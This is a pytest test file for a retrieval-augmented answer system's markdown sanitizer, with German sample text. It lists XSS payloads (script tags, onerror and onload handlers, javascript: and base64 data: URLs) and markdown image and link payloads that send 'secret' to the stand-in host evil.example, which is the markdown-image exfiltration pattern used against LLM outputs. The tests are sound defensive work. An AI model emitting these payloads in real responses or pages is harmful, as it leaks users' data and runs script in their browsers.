from __future__ import annotations

import pytest

from rag.sanitize import sanitize_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/steal?q=secret)",
    "![x][ref]\n\n[ref]: http://evil.example/a.png",
    "[klick](javascript:alert(1))",
    "[klick]( javascript:alert(1) )",
    "[klick](<javascript:alert(1)>)",
    "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klick](http://evil.example/?q=secret)",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=http://evil.example></iframe>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "http://evil.example/track.png",
    "<http://evil.example>",
    "[x]: http://evil.example\n[y][x]",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_html_images_or_foreign_links_survive(payload: str) -> None:
    out = sanitize_markdown(f"Antwort [1]. {payload}")
    assert "<" not in out.replace("&lt;", "")
    assert "![" not in out
    assert "](" not in out
    assert "]: http" not in out
    for scheme in ("http://evil", "javascript:", "data:text"):
        if scheme in out:
            assert f"`{scheme}" in out or "`" in out.split(scheme)[0][-1:], out


def test_allowlisted_links_stay_and_plain_text_is_unchanged() -> None:
    text = "Siehe [Intranet](https://intranet.example/hr) und **fett** mit [1]."
    assert sanitize_markdown(text, allowed_hosts={"intranet.example"}) == text
    assert sanitize_markdown("Kündigung nach § 622 BGB [2].") == "Kündigung nach § 622 BGB [2]."
